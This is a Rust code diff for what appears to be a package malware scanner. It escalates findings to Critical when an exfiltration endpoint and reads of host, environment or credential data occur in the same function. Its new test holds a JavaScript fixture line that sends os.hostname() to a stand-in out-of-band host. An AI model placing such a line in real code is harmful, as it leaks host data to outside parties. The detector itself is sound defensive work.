@@ -41,9 +41,23 @@ pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
                 Kind::BrowserSend,
             ],
         );
+        // Host or user data sent from the same function: a probe or a stealer, not a link.
+        let sends_host_data = loc == Locality::Function
+            && f.signals.iter().any(|o| {
+                o.func == s.func
+                    && matches!(
+                        o.kind,
+                        Kind::OsInfo
+                            | Kind::EnvRead
+                            | Kind::EnvDump
+                            | Kind::CredentialPath
+                            | Kind::ShellHostInfo
+                    )
+            });
         let sev = match loc {
             Locality::Alone => Severity::Low,
             Locality::Package => Severity::Medium,
+            _ if sends_host_data => Severity::Critical,
             _ => SUSPICIOUS_ENDPOINT.default_severity,
         };
         let msg = format!("exfiltration-style endpoint `{}`", s.detail);
@@ -88,5 +102,21 @@ mod tests {
             ),
         ]);
         assert!(hits(&s, "code/suspicious-endpoint").is_empty());
+    }
+
+    #[test]
+    fn host_data_to_oast_is_critical() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "p.js",
+                "const https = require('https'), os = require('os');\nhttps.get('https://x1fake.oastify.com/?h=' + os.hostname());\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/suspicious-endpoint"),
+            vec![("p.js".to_string(), 2)]
+        );
+        assert_eq!(s.verdict, crate::Verdict::Malicious);
     }
 }
